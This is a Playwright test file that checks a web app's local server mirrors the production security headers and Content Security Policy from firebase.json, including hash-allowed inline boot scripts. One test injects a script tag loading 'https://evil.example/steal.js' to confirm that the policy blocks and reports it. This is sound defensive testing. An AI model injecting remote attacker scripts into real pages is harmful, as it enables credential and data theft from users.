import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import type { HostingTarget } from '../scripts/deploy-config';
import { readApps } from '../scripts/apps-file';
import { bootScript } from '../build/page';
import { test, expect, appPort, runPorts } from './fixtures';

const apps = readApps();

/**
 * The local server sends the security headers firebase.json sends, its CSP made for the local
 * origins by the same code (scripts/serve.ts, scripts/deploy-config.ts): every browser test runs
 * under the policy students get, and ends by expecting no violation (e2e/fixtures.ts).
 */

const committed = JSON.parse(fs.readFileSync(path.join(__dirname, '../firebase.json'), 'utf8')) as {
  hosting: HostingTarget[];
};

/** The headers firebase.json sends on every file of an app, as a lower-cased map. */
function productionHeaders(app: string): Record<string, string> {
  const target = committed.hosting.find((candidate) => candidate.target === app)!;
  const everyFile = target.headers.find((rule) => rule.source === '**')!;
  return Object.fromEntries(everyFile.headers.map(({ key, value }) => [key.toLowerCase(), value]));
}

const directives = (csp: string) =>
  Object.fromEntries(
    csp.split('; ').map((directive) => {
      const [name, ...sources] = directive.split(' ');
      return [name!, sources];
    }),
  );
/** A directive's sources that name no host: keywords, schemes and hashes. */
const hostless = (sources: string[]) => sources.filter((source) => !/^[a-z]+:\/\//.test(source));

for (const app of apps) {
  test(`${app.name} answers with firebase.json's security headers and a CSP for the local origins`, async () => {
    const response = await fetch(`http://localhost:${appPort(app.name)}/`);
    expect(response.status).toBe(200);
    const production = productionHeaders(app.name);
    for (const [key, value] of Object.entries(production)) {
      if (key === 'cache-control' || key === 'content-security-policy') continue;
      expect({ key, value: response.headers.get(key) }).toEqual({ key, value });
    }

    const local = directives(response.headers.get('content-security-policy')!);
    const deployed = directives(production['content-security-policy']!);
    // The same policy: the same directives with the same keywords, hashes and schemes ...
    expect(Object.keys(local)).toEqual(Object.keys(deployed));
    for (const name of Object.keys(deployed))
      expect({ name, sources: hostless(local[name]!) }).toEqual({
        name,
        sources: hostless(deployed[name]!),
      });
    // ... naming the local site, its remotes and the emulator instead of the production hosts.
    const database = `127.0.0.1:${runPorts.database}`;
    for (const remote of ['exams', 'placements', 'blogs'])
      expect(local['script-src']).toContain(`http://localhost:${appPort(remote)}`);
    expect(local['connect-src']).toEqual(
      expect.arrayContaining([`http://${database}`, `ws://${database}`]),
    );
    expect(local['script-src']!.join(' ')).not.toContain(database);
    expect(local['worker-src']).toEqual(["'self'", 'blob:']);
  });
}

test('a CSP violation on a page is caught by the check every browser test ends with', async ({
  page,
  cspViolations,
}) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Question papers' })).toBeVisible();
  expect(cspViolations).toEqual([]);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/steal.js';
    document.head.append(script);
  });
  // Seen twice: the document's violation event and the browser's console error.
  await expect
    .poll(() => cspViolations.join('\n'))
    .toContain('script-src-elem blocked https://evil.example/steal.js on /');
  await expect
    .poll(() => cspViolations.join('\n'))
    .toMatch(/'https:\/\/evil\.example\/steal\.js' violates the following Content Security Policy/);
  // Caught as it should be; the fixture's own check would otherwise fail this test.
  cspViolations.length = 0;
});

test("the shell's inline boot script is the build's, allowed by its hash in firebase.json and the served CSP", async () => {
  const response = await fetch(`http://localhost:${appPort('shell')}/cat1papers`);
  const html = await response.text();
  const inline = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((match) => match[1]!);
  // One inline script: the boot script compiled from shell/src/startup/boot/ (build/page.ts).
  expect(inline).toHaveLength(1);
  const hash = `'sha256-${crypto.createHash('sha256').update(inline[0]!).digest('base64')}'`;
  expect(
    directives(productionHeaders('shell')['content-security-policy']!)['script-src'],
  ).toContain(hash);
  expect(directives(response.headers.get('content-security-policy')!)['script-src']).toContain(
    hash,
  );
  // Built from the shell's source with the shared helpers, not pasted: the same text as build/page.ts makes.
  expect(inline[0]).toBe(bootScript().code);
});
